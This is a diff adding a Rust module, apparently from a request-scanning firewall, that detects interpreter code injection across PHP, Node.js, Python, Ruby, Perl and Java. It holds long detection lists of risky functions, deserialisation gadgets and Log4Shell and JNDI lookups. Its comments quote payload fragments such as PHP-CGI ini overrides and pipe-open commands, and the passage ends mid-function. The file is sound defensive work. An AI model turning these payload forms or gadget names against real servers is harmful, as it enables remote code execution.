@@ -1,0 +1,1450 @@
+//! Code injection into an interpreter: PHP, Node.js, Python, Ruby, Perl and
+//! Java (expression languages and deserialisation included), the half of
+//! the RCE class that needs no shell. `rce::detect` calls [`detect`] on
+//! every field it reads; the shell half stays in `rce.rs`.
+//!
+//! Two kinds of evidence, judged differently (docs/signatures.md, "Code
+//! injection"):
+//!
+//! - **Names that only attacks write**: functions whose only use is to run
+//!   programs, open sockets, read the server's configuration or evaluate
+//!   hidden code (`proc_nice(`, `stream_socket_client(`, `posix_setsid(`),
+//!   sandbox escapes (`__subclasses__`, `__globals__`), deserialisation
+//!   gadgets (`Gem::Installer`, `com.thoughtworks.xstream`), OGNL's
+//!   `_memberAccess`, Log4Shell lookups. They are flagged wherever they
+//!   are, a Markdown snippet included: no API field carries them by
+//!   accident, and an application whose users post such code (a code
+//!   review service) exempts that location.
+//! - **Everyday library calls** (`require('fs')`, `fs.readFileSync(`,
+//!   `process.env`, `pickle.loads(`, `Class.forName(`, `import os`,
+//!   `while(true)`): code that forum posts and documentation show in prose
+//!   too. They count only where an evaluator would run them: at the start
+//!   of the value (after the quotes and brackets that close the
+//!   application's own string or call), after a statement end that follows
+//!   a string or call (`';`, `);`), after a concatenation to a string
+//!   (`'+`, `".`), or inside an interpolation opener (`${`, `#{`, `{{`,
+//!   `<%`). "Use `fs.readFileSync` here" or a Markdown fence with
+//!   `const fs = require('fs');` after text is not flagged.
+//!
+//! Every check is one pass over the field (a multi-needle scan or a
+//! `memchr` over one byte) with a bounded look-around from each match, so
+//! the cost stays linear in the field.
+
+use super::needles::Needles;
+use super::normalize::{find, trig, Normalized};
+
+pub fn detect(n: &Normalized) -> bool {
+    let s = n.text;
+    (n.has(trig::PAREN) && (php_risky_call(s) || ruby_send(s) || pipe_open(s) || spel_type(s)))
+        || (n.has(trig::DOLLAR)
+            && (PHP_VARIABLES.any_match(s, |v, at| php_variable(s, at, at + v.len()))
+                || nested_lookup(s)))
+        || (n.has(trig::COLON)
+            && (signed_serialized(s) || php_data(s) || find(s, b"<?xml:").is_some()))
+        || (n.has(trig::EQ) && ini_assignment(s))
+        || ATTACK_NAMES.any_match(s, |name, at| attack_name(s, name, at))
+        || JAVA_NAMES.found_in(s)
+        || (n.has(trig::DOT | trig::PAREN | trig::SPACE | trig::BRACE)
+            && IN_CODE.any_match(s, |c, at| in_code(s, c, at)))
+        || (n.has(trig::PAREN) && node_require(s))
+        || (n.has(trig::PERCENT_AT | trig::BRACE | trig::PAREN | trig::SLASH) && quoted_exec(s))
+        || (n.has(trig::NEWLINE) && pickle_global(s))
+        || (n.has(trig::PERCENT_AT) && ognl_static(s))
+        || (n.has(trig::BRACE | trig::COLON | trig::QUOTE) && prototype_key(s))
+        || serialized_java(s)
+}
+
+/// Whether a name ends at `k`: no identifier byte follows.
+fn ends_name(s: &[u8], k: usize) -> bool {
+    !s.get(k)
+        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
+}
+
+/// Whether a name starts at `at`: no identifier byte (or `$`, a variable)
+/// precedes.
+fn starts_name(s: &[u8], at: usize) -> bool {
+    at == 0 || !(s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'$'))
+}
+
+/// PHP functions that run programs, open connections, read or change the
+/// server's configuration, walk the file system, call back a function named
+/// by a string or decode hidden code, with names no prose or other
+/// language writes (underscored or PHP's own compounds). Called (`(` after
+/// the name, spaces and comments allowed), they are PHP code wherever they
+/// are. Sorted (a test checks).
+const PHP_RISKY: &[&[u8]] = &[
+    b"__halt_compiler",
+    b"apache_child_terminate",
+    b"apache_get_modules",
+    b"apache_getenv",
+    b"apache_note",
+    b"apache_request_headers",
+    b"apache_setenv",
+    b"array_filter",
+    b"array_map",
+    b"array_reduce",
+    b"array_walk",
+    b"array_walk_recursive",
+    b"assert_options",
+    b"base64_decode",
+    b"bzdecompress",
+    b"bzopen",
+    b"call_user_func",
+    b"call_user_func_array",
+    b"call_user_method",
+    b"call_user_method_array",
+    b"chgrp",
+    b"chown",
+    b"chroot",
+    b"convert_uudecode",
+    b"convert_uuencode",
+    b"create_function",
+    b"curl_exec",
+    b"curl_init",
+    b"curl_multi_exec",
+    b"curl_setopt",
+    b"curl_setopt_array",
+    b"debug_zval_dump",
+    b"disk_free_space",
+    b"disk_total_space",
+    b"diskfreespace",
+    b"dns_get_record",
+    b"error_log",
+    b"error_reporting",
+    b"escapeshellarg",
+    b"escapeshellcmd",
+    b"file_get_contents",
+    b"file_put_contents",
+    b"filemtime",
+    b"fileowner",
+    b"fileperms",
+    b"forward_static_call",
+    b"forward_static_call_array",
+    b"fpassthru",
+    b"fsockopen",
+    b"ftp_connect",
+    b"ftp_exec",
+    b"ftp_get",
+    b"ftp_login",
+    b"ftp_put",
+    b"func_get_args",
+    b"function_exists",
+    b"get_cfg_var",
+    b"get_class_methods",
+    b"get_class_vars",
+    b"get_current_user",
+    b"get_declared_classes",
+    b"get_defined_constants",
+    b"get_defined_functions",
+    b"get_defined_vars",
+    b"get_headers",
+    b"get_included_files",
+    b"get_loaded_extensions",
+    b"get_meta_tags",
+    b"get_object_vars",
+    b"getallheaders",
+    b"getcwd",
+    b"gethostbyname",
+    b"getlastmod",
+    b"getmygid",
+    b"getmyinode",
+    b"getmypid",
+    b"getmyuid",
+    b"getrusage",
+    b"gzcompress",
+    b"gzdecode",
+    b"gzdeflate",
+    b"gzencode",
+    b"gzfile",
+    b"gzinflate",
+    b"gzopen",
+    b"gzpassthru",
+    b"gzread",
+    b"gzuncompress",
+    b"hex2bin",
+    b"highlight_file",
+    b"highlight_string",
+    b"htmlspecialchars_decode",
+    b"ignore_user_abort",
+    b"imap_mail",
+    b"imap_open",
+    b"ini_alter",
+    b"ini_get",
+    b"ini_get_all",
+    b"ini_restore",
+    b"ini_set",
+    b"invokeargs",
+    b"is_executable",
+    b"is_uploaded_file",
+    b"is_writable",
+    b"is_writeable",
+    b"iterator_apply",
+    b"lchgrp",
+    b"lchown",
+    b"mb_ereg_replace",
+    b"mb_send_mail",
+    b"md5_file",
+    b"move_uploaded_file",
+    b"mysql_query",
+    b"mysqli_query",
+    b"newinstanceargs",
+    b"ob_start",
+    b"openssl_decrypt",
+    b"parse_ini_file",
+    b"parse_ini_string",
+    b"passthru",
+    b"pcntl_alarm",
+    b"pcntl_exec",
+    b"pcntl_fork",
+    b"pcntl_signal",
+    b"pcntl_waitpid",
+    b"pfsockopen",
+    b"php_ini_loaded_file",
+    b"php_sapi_name",
+    b"php_strip_whitespace",
+    b"php_uname",
+    b"phpcredits",
+    b"phpinfo",
+    b"phpversion",
+    b"posix_access",
+    b"posix_getcwd",
+    b"posix_getegid",
+    b"posix_geteuid",
+    b"posix_getgid",
+    b"posix_getlogin",
+    b"posix_getpwnam",
+    b"posix_getpwuid",
+    b"posix_getuid",
+    b"posix_kill",
+    b"posix_mkfifo",
+    b"posix_setgid",
+    b"posix_setpgid",
+    b"posix_setsid",
+    b"posix_setuid",
+    b"posix_ttyname",
+    b"posix_uname",
+    b"preg_replace_callback",
+    b"preg_replace_callback_array",
+    b"print_r",
+    b"proc_close",
+    b"proc_get_status",
+    b"proc_nice",
+    b"proc_open",
+    b"proc_terminate",
+    b"quoted_printable_decode",
+    b"readgzfile",
+    b"readlink",
+    b"reflectionfunction",
+    b"reflectionmethod",
+    b"register_shutdown_function",
+    b"register_tick_function",
+    b"session_start",
+    b"set_error_handler",
+    b"set_exception_handler",
+    b"set_include_path",
+    b"set_time_limit",
+    b"sha1_file",
+    b"shell_exec",
+    b"show_source",
+    b"socket_accept",
+    b"socket_bind",
+    b"socket_connect",
+    b"socket_create",
+    b"socket_listen",
+    b"socket_read",
+    b"socket_write",
+    b"spl_autoload_register",
+    b"ssh2_connect",
+    b"ssh2_exec",
+    b"ssh2_shell",
+    b"str_rot13",
+    b"stream_context_create",
+    b"stream_get_contents",
+    b"stream_socket_client",
+    b"stream_socket_server",
+    b"stream_wrapper_register",
+    b"sys_get_temp_dir",
+    b"sys_getloadavg",
+    b"tempnam",
+    b"tmpfile",
+    b"uasort",
+    b"uksort",
+    b"unserialize",
+    b"var_dump",
+    b"var_export",
+    b"zend_version",
+    b"zlib_decode",
+];
+
+/// Prefixes of PHP's extension functions that run programs, open
+/// connections, query databases or read the interpreter's state
+/// (`posix_getpwnam(`, `ssh2_exec(`, `wp_remote_get(`, `array_udiff(`
+/// with a callback): every function of the family counts.
+const PHP_FAMILIES: &[&[u8]] = &[
+    b"apache_",
+    b"array_diff_u",
+    b"array_intersect_u",
+    b"array_u",
+    b"curl_",
+    b"expect_",
+    b"ftp_",
+    b"get_defined_",
+    b"imap_",
+    b"ini_",
+    b"mb_ereg",
+    b"mssql_",
+    b"mysql_",
+    b"mysqli_",
+    b"oci_",
+    b"odbc_",
+    b"pcntl_",
+    b"php_",
+    b"posix_",
+    b"proc_",
+    b"session_set_",
+    b"socket_",
+    b"sqlite_",
+    b"ssh2_",
+    b"stream_socket_",
+    b"wp_remote_",
+    b"wp_safe_remote_",
+    b"xml_set_",
+];
+
+/// A call to a [`PHP_RISKY`] function: every `(` is read back over spaces
+/// and a line comment to the name before it (at most 40 bytes), so one
+/// pass over the parentheses. Methods of other languages (`.serialize(`,
+/// `->exec(`, `::ini_get(`) are not PHP's functions.
+fn php_risky_call(s: &[u8]) -> bool {
+    memchr::memchr_iter(b'(', s).any(|open| {
+        let mut k = open;
+        while k > 0 && s[k - 1] == b' ' {
+            k -= 1;
+        }
+        // `name #comment\n(` or `name //comment\n(`: the line before.
+        if k > 0 && s[k - 1] == b'\n' {
+            let line_start = k - 1;
+            let from = line_start.saturating_sub(64);
+            let Some(c) = s[from..line_start]
+                .iter()
+                .rposition(|&b| b == b'#' || b == b'/')
+                .map(|p| from + p)
+            else {
+                return false;
+            };
+            k = if s[c] == b'/' && c > 0 && s[c - 1] == b'/' {
+                c - 1
+            } else {
+                c
+            };
+            while k > 0 && s[k - 1] == b' ' {
+                k -= 1;
+            }
+        }
+        let end = k;
+        let len = s[..end]
+            .iter()
+            .rev()
+            .take(41)
+            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+            .count();
+        if len == 0 || len > 40 {
+            return false;
+        }
+        let at = end - len;
+        let before = at.checked_sub(1).map(|i| s[i]);
+        // A method (`.serialize(`, `->exec(`, `::ini_get(`) is no PHP
+        // function; a `.` after a quote is PHP's concatenation.
+        let concatenated = before == Some(b'.') && at >= 2 && matches!(s[at - 2], b'\'' | b'"');
+        if matches!(before, Some(b'.' | b'$' | b'>' | b':' | b'\\')) && !concatenated {
+            return false;
+        }
+        let name = &s[at..end];
+        PHP_RISKY.binary_search(&name).is_ok()
+            || PHP_FAMILIES
+                .iter()
+                .any(|f| name.len() > f.len() && name.starts_with(f))
+            || (PHP_WORDS.binary_search(&name).is_ok() && php_breakout(s, at))
+    })
+}
+
+/// PHP functions named like English words or other languages' functions
+/// (`system`, `file`, `copy`, `print`): PHP code only after a breakout
+/// (`';system (`, `x;exec (ls)`, `'.file(`), see [`code_position`]. Sorted.
+const PHP_WORDS: &[&[u8]] = &[
+    b"assert",
+    b"chmod",
+    b"chr",
+    b"copy",
+    b"echo",
+    b"eval",
+    b"exec",
+    b"file",
+    b"fopen",
+    b"fputs",
+    b"fwrite",
+    b"glob",
+    b"header",
+    b"include",
+    b"link",
+    b"mail",
+    b"mkdir",
+    b"ord",
+    b"popen",
+    b"print",
+    b"printf",
+    b"readfile",
+    b"rename",
+    b"require",
+    b"rmdir",
+    b"stat",
+    b"symlink",
+    b"system",
+    b"touch",
+    b"unlink",
+];
+
+/// Whether PHP code at `at` follows a breakout out of a string or
+/// statement: `';`, `";`, one bare token and `;` opening the value
+/// (`1;`), a concatenation (`'.`, `".`), or `${`. A `);` is not
+/// enough for these words: "Print (color); copy (2)" is a label.
+fn php_breakout(s: &[u8], at: usize) -> bool {
+    let mut k = at;
+    while k > 0 && matches!(s[k - 1], b' ' | b'\n' | b'@') {
+        k -= 1;
+    }
+    let mut j = k.saturating_sub(1);
+    while j > 0 && s[j - 1] == b' ' {
+        j -= 1;
+    }
+    let quoted = j > 0 && matches!(s[j - 1], b'\'' | b'"' | b'`');
+    match k.checked_sub(1).map(|i| s[i]) {
+        Some(b';') => {
+            quoted
+                || s[..j]
+                    .iter()
+                    .all(|b| b.is_ascii_alphanumeric() || *b == b'_')
+        }
+        Some(b'.') => quoted,
+        Some(b'{') => k >= 2 && s[k - 2] == b'$',
+        _ => false,
+    }
+}
+
+/// PHP's request, server and global variables by name (`$_GET`,
+/// `$GLOBALS`, `$HTTP_RAW_POST_DATA`): what only PHP code reads.
+const PHP_VARIABLES: Needles = Needles::new(&[
+    b"$_cookie",
+    b"$_env",
+    b"$_files",
+    b"$_get",
+    b"$_post",
+    b"$_request",
+    b"$_server",
+    b"$_session",
+    b"$globals",
+    b"$http_cookie_vars",
+    b"$http_env_vars",
+    b"$http_get_vars",
+    b"$http_post_files",
+    b"$http_post_vars",
+    b"$http_raw_post_data",
+    b"$http_response_header",
+    b"$http_server_vars",
+    b"$http_session_vars",
+    b"$php_errormsg",
+]);
+
+/// A superglobal used as code: followed or preceded by code punctuation
+/// (`$_GET['x']`, `print_r($GLOBALS)`, `$_COOKIE;`, `.$_SERVER.`) or the
+/// whole value's end. Prose names them too ("`$_GET` is PHP's query array"):
+/// a space and a word after it is text.
+fn php_variable(s: &[u8], at: usize, end: usize) -> bool {
+    if !ends_name(s, end) {
+        return false;
+    }
+    let after = matches!(
+        s.get(end),
+        None | Some(b'[' | b';' | b')' | b',' | b'-' | b'.' | b'=' | b'}' | b'\'' | b'"')
+    );
+    let before = at > 0 && matches!(s[at - 1], b'(' | b'.' | b'=' | b'{' | b'@' | b'[' | b',');
+    after || before
+}
+
+/// php.ini directives that turn off PHP's defences or make it run a file
+/// or program of the attacker's, with names nothing else uses. Sorted.
+const PHP_INI_STRONG: &[&[u8]] = &[
+    b"allow_url_fopen",
+    b"allow_url_include",
+    b"assert.callback",
+    b"auto_append_file",
+    b"auto_prepend_file",
+    b"cgi.fix_pathinfo",
+    b"cgi.force_redirect",
+    b"cgi.redirect_status_env",
+    b"disable_classes",
+    b"disable_functions",
+    b"enable_dl",
+    b"mail.force_extra_parameters",
+    b"open_basedir",
+    b"phar.readonly",
+    b"phar.require_hash",
+    b"register_globals",
+    b"safe_mode",
+    b"safe_mode_exec_dir",
+    b"sendmail_path",
+    b"session.save_handler",
+    b"session.save_path",
+    b"session.serialize_handler",
+    b"session.upload_progress.enabled",
+    b"unserialize_callback_func",
+    b"zend_extension",
+];
+
+/// `directive=value` for a [`PHP_INI_STRONG`] directive anywhere in the
+/// value, not only as the whole value (`rce.rs`): PHP-CGI's `-d
+/// allow_url_include=1 -d auto_prepend_file=php://input` (CVE-2012-1823,
+/// CVE-2024-4577), `.user.ini` and `php.ini` lines in a body.
+fn ini_assignment(s: &[u8]) -> bool {
+    memchr::memchr_iter(b'=', s).any(|eq| {
+        let mut end = eq;
+        while end > 0 && s[end - 1] == b' ' {
+            end -= 1;
+        }
+        let len = s[..end]
+            .iter()
+            .rev()
+            .take(33)
+            .take_while(|b| b.is_ascii_lowercase() || matches!(b, b'_' | b'.'))
+            .count();
+        let at = end - len;
+        len > 0
+            && len <= 32
+            && starts_name(s, at)
+            && s.get(eq + 1) != Some(&b'=')
+            && PHP_INI_STRONG.binary_search(&&s[at..end]).is_ok()
+    })
+}
+
+/// A serialized PHP object whose length carries a sign or a space
+/// (`O:+8:"stdClass"`, `C: 11:"ArrayObject"`): PHP's parser accepts both,
+/// and they hide the object from a reader of the plain form.
+fn signed_serialized(s: &[u8]) -> bool {
+    memchr::memchr_iter(b':', s).any(|at| {
+        if at == 0 || !matches!(s[at - 1], b'o' | b'c') || !starts_name(s, at - 1) {
+            return false;
+        }
+        let mut k = at + 1;
+        let mut signed = false;
+        while k < at + 4 && matches!(s.get(k), Some(b'+' | b' ')) {
+            k += 1;
+            signed = true;
+        }
+        let digits = s[k.min(s.len())..]
+            .iter()
+            .take(8)
+            .take_while(|b| b.is_ascii_digit())
+            .count();
+        signed && digits > 0 && s.get(k + digits..k + digits + 2) == Some(b":\"")
+    })
+}
+
+/// A `data:` URL that PHP's `include` runs: of a PHP media type, or whose
+/// base64 opens with `<?` (`PD8`, lowercased here), whatever its type
+/// says (`rce.rs` reads the plain-text and typeless forms).
+fn php_data(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| find(t, b"data:")) {
+        let at = from + p;
+        from = at + 5;
+        let rest = &s[from..s.len().min(from + 64)];
+        let rest = rest.strip_prefix(b"//").unwrap_or(rest);
+        if [
+            b"application/x-httpd-php" as &[u8],
+            b"application/x-php",
+            b"text/x-php",
+            b"text/php",
+        ]
+        .iter()
+        .any(|t| rest.starts_with(t))
+        {
+            return true;
+        }
+        let Some(comma) = rest.iter().position(|&b| b == b',') else {
+            continue;
+        };
+        if rest[..comma].ends_with(b";base64") && rest[comma + 1..].starts_with(b"pd8") {
+            return true;
+        }
+    }
+    false
+}
+
+/// Names only attacks write, in Python, Ruby, Perl, Node.js and
+/// Log4Shell payloads (each checked for a word start, and some for what
+/// follows, in [`attack_name`]).
+const ATTACK_NAMES: Needles = Needles::new(&[
+    // Python sandbox escapes and pickle gadgets.
+    b"__subclasses__",
+    b"__mro__",
+    b"__globals__",
+    b"__builtins__",
+    b"__base__",
+    b"__getattribute__",
+    b"__reduce__",
+    b"__reduce_ex__",
+    b"subprocess.",
+    b"os.exec",
+    b"os.spawn",
+    b"os.posix_spawn",
+    b"os.forkpty",
+    b"os.startfile",
+    b"(os.system,",
+    b"(os.popen,",
+    b"pty.spawn(",
+    b"commands.getoutput(",
+    b"commands.getstatusoutput(",
+    b"builtins.eval",
+    b"builtins.exec",
+    b"builtins.__import__",
+    // Ruby: metaprogramming that reaches any method, gadget classes of
+    // its deserialisers, process calls.
+    b"const_get(",
+    b"instance_eval(",
+    b"instance_exec(",
+    b"class_eval(",
+    b"class_exec(",
+    b"module_eval(",
+    b"binding.eval(",
+    b"kernel.open(",
+    b"kernel.eval(",
+    b"kernel.load(",
+    b"kernel.require(",
+    b"kernel.fork",
+    b"kernel.syscall(",
+    b"process.exec(",
+    b"gem::installer",
+    b"gem::requirement",
+    b"gem::stubspecification",
+    b"gem::package::tarreader",
+    b"gem::source::specificfile",
+    b"gem::requestset",
+    b"net::writeadapter",
+    b"net::bufferedio",
+    b"deprecatedinstancevariableproxy",
+    b"!ruby/object",
+    b"!ruby/hash",
+    b"!ruby/struct",
+    b"!ruby/marshal",
+    // Perl's socket module (reverse shells).
+    b"io::socket",
+    // Log4Shell lookups beyond those `rce.rs` lists, and JNDI URLs.
+    b"${k8s:",
+    b"${docker:",
+    b"${spring:",
+    b"${web:",
+    b"${jvmrunargs:",
+    b"${log4j:",
+    b"${bundle:",
+    b"${event:",
+    b"${marker:",
+    b"${sd:",
+    b"jndi:ldap",
+    b"jndi:rmi",
+    b"jndi:dns",
+    b"jndi:iiop",
+]);
+
+fn attack_name(s: &[u8], name: &[u8], at: usize) -> bool {
+    if name[0].is_ascii_alphabetic() && !starts_name(s, at) {
+        return false;
+    }
+    let k = at + name.len();
+    match name {
+        // A call of the module's or family's function (`subprocess.run(`,
+        // `os.execv(`): the name alone may be prose ("use subprocess.run").
+        b"subprocess." | b"os.exec" | b"os.spawn" | b"os.posix_spawn" | b"os.forkpty"
+        | b"os.startfile" | b"builtins.eval" | b"builtins.exec" => {
+            let len = s[k..]
+                .iter()
+                .take(24)
+                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+                .count();
+            matches!(s.get(k + len), Some(b'(' | b','))
+        }
+        _ => true,
+    }
+}
+
+/// Java classes that deserialisation gadget chains, template engines and
+/// expression languages reach for (beyond `rce.rs`'s list), Spring's
+/// class-loader path (Spring4Shell), OGNL's access switches, the JDK's
+/// script shells; and Perl's `%ENV` (`$ENV{PATH}`), which no other
+/// language writes so.
+const JAVA_NAMES: Needles = Needles::new(&[
+    b"java.lang.process",
+    b"java.lang.unixprocess",
+    b"java.lang.runtime",
+    b"getruntime()",
+    b"getclass().forname(",
+    b"class.module.classloader",
+    b"class.classloader",
+    b"_memberaccess",
+    b"ognlcontext",
+    b"xwork.methodaccessor",
+    b"denymethodexecution",
+    b"allowstaticmethodaccess",
+    b"jdk.jshell",
+    b"jdk.nashorn",
+    b"nashorn.api.scripting",
+    b"groovy.lang.groovyshell",
+    b"groovy.lang.groovyclassloader",
+    b"groovy.util.eval",
+    b"xmlapplicationcontext",
+    b"naming.factory.beanfactory",
+    b"javax.el.",
+    b"elprocessor",
+    b"com.thoughtworks.xstream",
+    b"collections4.functors",
+    b"xbean.naming",
+    b"pythoninterpreter",
+    b"org.mvel2",
+    b"template.utility.execute",
+    b"template.utility.objectconstructor",
+    b"template.utility.jythonruntime",
+    b"com.sun.syndication",
+    b"jndiconnectionsource",
+    b"shiro.jndi",
+    b"new java.",
+    b"new javax.",
+    b"clojure.core$",
+    b"clojure.lang.",
+    b"class[classloader]",
+    // Perl's environment hash, read or set.
+    b"$env{",
+]);
+
+/// Everyday code that counts only in an evaluated position
+/// ([`code_position`]).
+const IN_CODE: Needles = Needles::new(&[
+    // Node.js: the file system and process objects, evaluators, loops that
+    // never end (a single-threaded server stops).
+    b"fs.",
+    b"process.",
+    b"eval(",
+    b"settimeout(",
+    b"setinterval(",
+    b"function(",
+    b"function (",
+    b"while(",
+    b"while (",
+    b"for(;;)",
+    b"for (;;)",
+    b"do{",
+    // Python and Ruby deserialisers and module loaders.
+    b"pickle.loads(",
+    b"pickle.load(",
+    b"marshal.loads(",
+    b"marshal.load(",
+    b"yaml.load(",
+    b"yaml.unsafe_load(",
+    b"psych.load(",
+    b"jsonpickle.decode(",
+    b"dill.loads(",
+    b"importlib.import_module(",
+    b"erb.new(",
+    b"os.",
+    b"import os",
+    b"import subprocess",
+    b"import pty",
+    b"import socket",
+    b"from os import",
+    b"from subprocess import",
+    // Java reflection.
+    b"class.forname(",
+    // Perl and Ruby run a program without parentheses.
+    b"system \"",
+    b"system '",
+    b"exec \"",
+    b"exec '",
+    b"eval {",
+    b"eval{",
+    b"print `",
+    b"puts `",
+]);
+
+fn in_code(s: &[u8], c: &[u8], at: usize) -> bool {
+    if !starts_name(s, at) || !code_position(s, at) {
+        return false;
+    }
+    let k = at + c.len();
+    match c {
+        // A member of the object (`fs.readFileSync(`, `process.env`,
+        // `os.getcwd()`), not a sentence's word after a dot.
+        b"fs." | b"process." | b"os." => {
+            let len = s[k..]
+                .iter()
+                .take(24)
+                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+                .count();
+            len > 0 && (c != b"os." || s.get(k + len) == Some(&b'('))
+        }
+        // Loops whose condition is always true.
+        b"while(" | b"while (" => {
+            let cond = &s[k..s.len().min(k + 8)];
+            [b"true)" as &[u8], b"1)", b"!0)", b"!false)", b"!![])"]
+                .iter()
+                .any(|t| cond.starts_with(t))
+        }
+        // A function literal without parameters and with a body, as
+        // serialised functions and injected callbacks are
+        // (`function (){..}`); one with parameters is a snippet.
+        b"function(" | b"function (" => {
+            let mut e = k;
+            while s.get(e) == Some(&b' ') {
+                e += 1;
+            }
+            if s.get(e) != Some(&b')') {
+                return false;
+            }
+            e += 1;
+            while s.get(e) == Some(&b' ') {
+                e += 1;
+            }
+            s.get(e) == Some(&b'{')
+        }
+        b"import os" | b"import subprocess" | b"import pty" | b"import socket" => {
+            matches!(s.get(k), None | Some(b';' | b'\n' | b',' | b' ' | b'.'))
+        }
+        _ => true,
+    }
+}
+
+/// Whether code at `at` sits where an evaluator runs it: it opens the value
+/// after at most a few bytes that close the application's string or call
+/// (`'`, `"`, `)`, `;`, `}`), or it follows a statement end after a string,
+/// call or block (`');`), a concatenation to a string (`'+`, `".`,
+/// `'||`), or an interpolation opener (`${`, `#{`, `{{`, `<%`).
+fn code_position(s: &[u8], at: usize) -> bool {
+    let head = &s[at.saturating_sub(16)..at];
+    let breakout = |b: &u8| {
+        matches!(
+            b,
+            b'\''
+                | b'"'
+                | b'`'
+                | b')'
+                | b']'
+                | b'}'
+                | b';'
+                | b','
+                | b' '
+                | b'\n'
+                | b'@'
+                | b'('
+                | b'+'
+                | b'|'
+                | b'&'
+                | b'.'
+        )
+    };
+    if at <= 16 && head.iter().all(breakout) {
+        return true;
+    }
+    let mut k = at;
+    while k > 0 && matches!(s[k - 1], b' ' | b'\n' | b'(' | b'@') {
+        k -= 1;
+    }
+    let quote_before = |j: usize| {
+        let mut j = j;
+        while j > 0 && s[j - 1] == b' ' {
+            j -= 1;
+        }
+        j > 0 && matches!(s[j - 1], b'\'' | b'"' | b'`' | b')' | b']' | b'}')
+    };
+    match k.checked_sub(1).map(|i| s[i]) {
+        // After a string or call, or after one bare token opening the
+        // value (`1;phpinfo()`).
+        Some(b';') => {
+            quote_before(k - 1)
+                || s[..k - 1]
+                    .trim_ascii_end()
+                    .iter()
+                    .all(|b| b.is_ascii_alphanumeric() || *b == b'_')
+        }
+        Some(b'+' | b'.' | b',') => quote_before(k - 1),
+        Some(b'|' | b'&') => {
+            let j = if k >= 2 && s[k - 2] == s[k - 1] {
+                k - 2
+            } else {
+                k - 1
+            };
+            quote_before(j)
+        }
+        Some(b'{') => k >= 2 && matches!(s[k - 2], b'$' | b'#' | b'{'),
+        Some(b'%' | b'=') => {
+            let j = if s[k - 1] == b'=' { k - 1 } else { k };
+            j >= 2 && s[j - 2] == b'<' && s[j - 1] == b'%'
+        }
+        _ => false,
+    }
+}
+
+/// Node.js modules that reach the system.
+const NODE_MODULES: &[&[u8]] = &[
+    b"child_process",
+    b"cluster",
+    b"dgram",
+    b"dns",
+    b"fs",
+    b"fs/promises",
+    b"http",
+    b"https",
+    b"inspector",
+    b"module",
+    b"net",
+    b"os",
+    b"process",
+    b"repl",
+    b"tls",
+    b"v8",
+    b"vm",
+    b"worker_threads",
+];
+
+/// `require('fs')` or `import('net')` used at once (`require('fs').readFileSync(`)
+/// or in an evaluated position; `const fs = require('fs');` after prose is
+/// a snippet.
+fn node_require(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'(', t)) {
+        let open = from + p;
+        from = open + 1;
+        let at = if s[..open].ends_with(b"require") {
+            open - 7
+        } else if s[..open].ends_with(b"import") {
+            open - 6
+        } else {
+            continue;
+        };
+        if !starts_name(s, at) {
+            continue;
+        }
+        let mut k = open + 1;
+        while s.get(k) == Some(&b' ') {
+            k += 1;
+        }
+        let Some(&q) = s.get(k).filter(|b| matches!(b, b'\'' | b'"' | b'`')) else {
+            continue;
+        };
+        let Some(len) = s[k + 1..].iter().take(24).position(|&b| b == q) else {
+            continue;
+        };
+        let module = &s[k + 1..k + 1 + len];
+        let module = module.strip_prefix(b"node:").unwrap_or(module);
+        if NODE_MODULES.binary_search(&module).is_err() {
+            continue;
+        }
+        let mut e = k + len + 2;
+        while s.get(e) == Some(&b' ') {
+            e += 1;
+        }
+        if s.get(e) != Some(&b')') {
+            continue;
+        }
+        if s.get(e + 1) == Some(&b'.') || code_position(s, at) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Ruby `%x(id)`, `%x{..}` and Perl `qx/id/`, `qx{..}`: a program's output
+/// read into a string, with a program name (or path, or variable) right
+/// inside the delimiter ("Infiniti QX(60)" has a digit).
+fn quoted_exec(s: &[u8]) -> bool {
+    let opener = |k: usize| {
+        matches!(
+            s.get(k),
+            Some(b'(' | b'{' | b'[' | b'<' | b'|' | b'!' | b'/' | b'#')
+        ) && s
+            .get(k + 1)
+            .is_some_and(|b| b.is_ascii_alphabetic() || matches!(b, b'/' | b'$' | b'.'))
+    };
+    memchr::memchr_iter(b'x', s).any(|x| {
+        x > 0
+            && match s[x - 1] {
+                b'%' => (x < 2 || !s[x - 2].is_ascii_alphanumeric()) && opener(x + 1),
+                b'q' => starts_name(s, x - 1) && opener(x + 1),
+                _ => false,
+            }
+    })
+}
+
+/// Ruby's `send(:system, ..)`, `public_send("eval", ..)`, `__send__(:exec`:
+/// a method named by a symbol or string, one of those that run code.
+fn ruby_send(s: &[u8]) -> bool {
+    const METHODS: &[&[u8]] = &[
+        b"`",
+        b"class_eval",
+        b"const_get",
+        b"eval",
+        b"exec",
+        b"fork",
+        b"instance_eval",
+        b"instance_variable_get",
+        b"load",
+        b"module_eval",
+        b"open",
+        b"popen",
+        b"require",
+        b"spawn",
+        b"syscall",
+        b"system",
+    ];
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| find(t, b"send")) {
+        let at = from + p;
+        from = at + 4;
+        let mut k = at + 4;
+        match s.get(k) {
+            Some(b'(') => k += 1,
+            Some(b' ') if s.get(k + 1) == Some(&b':') => k += 1,
+            _ => continue,
+        }
+        while s.get(k) == Some(&b' ') {
+            k += 1;
+        }
+        if !matches!(s.get(k), Some(b':' | b'\'' | b'"')) {
+            continue;
+        }
+        k += 1;
+        let len = s[k..]
+            .iter()
+            .take(24)
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'`'))
+            .count();
+        if len > 0 && METHODS.contains(&&s[k..k + len]) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Perl's and Ruby's `open` of a pipe: `open(F, "|id")`, `open(F, "id|")`,
+/// `open(my $fh, "-|", "id")`, `Kernel.open("|id")`, `IO.read("|id")`.
+fn pipe_open(s: &[u8]) -> bool {
+    const CALLS: Needles =
+        Needles::new(&[b"open(", b"open ", b"read(", b"readlines(", b"foreach("]);
+    CALLS.any_match(s, |c, at| {
+        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
+            return false;
+        }
